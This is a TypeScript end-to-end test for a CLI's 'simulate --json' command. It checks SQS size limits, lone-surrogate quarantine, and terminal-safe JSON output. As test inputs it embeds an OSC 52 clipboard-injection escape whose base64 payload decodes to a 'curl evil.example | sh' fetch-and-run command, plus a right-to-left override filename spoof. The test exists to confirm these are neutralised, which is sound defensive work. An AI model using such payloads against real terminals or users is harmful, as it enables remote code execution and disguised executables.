// `simulate --json` at the edges, end to end (child process, emulators, the real handler): the
// largest message SQS accepts is quarantined whole, one byte more is refused by SQS, a lone
// surrogate is quarantined rather than dead-lettered, and the JSON is safe on a terminal.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SimulationResult } from '../../cli/commands/simulate';
import { MAX_MESSAGE_BYTES } from '../../contract/limits';
import { voisoEventBody } from '../../lambda/testing/factories';
import { runCli } from './run-cli';

/** A Voiso event padded to exactly `size` bytes. */
function eventOfSize(size: number): string {
  const envelope = voisoEventBody('app_login/deleted_user', { params: { note: '' } });
  return envelope.replace('"note":""', `"note":"${'x'.repeat(size - envelope.length)}"`);
}

// C1 controls SQS accepts: OSC 52 (write the clipboard) introduced by U+009D, ended by U+009C.
const OSC52 = '\u009d52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u009c';
const CONTROLS = /[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

describe('simulate at the limits', () => {
  const largest = eventOfSize(MAX_MESSAGE_BYTES);
  const tooLarge = eventOfSize(MAX_MESSAGE_BYTES + 1);
  const clipboard = `not json ${OSC52}`;
  const bidi = voisoEventBody('app_login/successful_login', {
    params: { user: 'john@acme.com', note: `\u202egpj.exe ${OSC52}` },
  });
  const surrogate = voisoEventBody('app_login/deleted_user', { params: { user: 'a\ud800@b.c' } });
  let stdout: string;
  let result: SimulationResult;

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'voiso-sec-limits-'));
    const input = join(dir, 'edges.jsonl');
    writeFileSync(input, [largest, tooLarge, clipboard, bidi, surrogate].join('\n'));
    const run = await runCli(['simulate', '--input', input, '--json']);
    expect(run.code).toBe(0);
    stdout = run.stdout;
    result = JSON.parse(stdout) as SimulationResult;
  });

  it('stores or quarantines everything SQS accepts, and loses nothing', () => {
    expect(Buffer.byteLength(largest)).toBe(262_144);
    expect(result.summary).toMatchObject({
      sent: 4,
      stored: 1,
      quarantined: 3,
      deadLettered: 0,
      rejected: 1,
    });
    expect(result.rejected).toEqual([{ line: 2, reason: expect.stringContaining('262144') }]);
  });

  it('keeps the largest message whole in quarantine', () => {
    const kept = result.quarantined.find((q) => q.body.length === largest.length);

    expect(kept).toEqual({
      line: 1,
      body: largest,
      reason: 'message: 262144 bytes, larger than the 65536-byte limit',
    });
  });

  it('quarantines a lone surrogate instead of dead-lettering it', () => {
    expect(result.quarantined.map((q) => q.body)).toContain(surrogate);
    expect(result.deadLettered).toEqual([]);
  });

  it('prints JSON a terminal will not act on, that still means what was stored', () => {
    expect(stdout.replaceAll('\n', '')).not.toMatch(CONTROLS);
    expect(stdout).toContain('\\u009d52;c;');
    expect(result.quarantined.map((q) => q.body)).toContain(clipboard);
    expect(result.stored[0]?.params.note).toBe(`\u202egpj.exe ${OSC52}`);
  });
});
